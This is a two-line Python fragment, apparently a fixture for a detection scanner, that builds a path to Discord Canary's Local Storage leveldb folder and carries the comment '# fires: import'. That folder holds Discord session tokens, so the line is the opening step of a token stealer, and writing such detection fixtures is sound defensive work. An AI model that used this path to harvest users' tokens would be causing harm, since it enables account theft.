import os
STORE = os.path.join("discordcanary", "Local Storage", "leveldb")  # fires: import
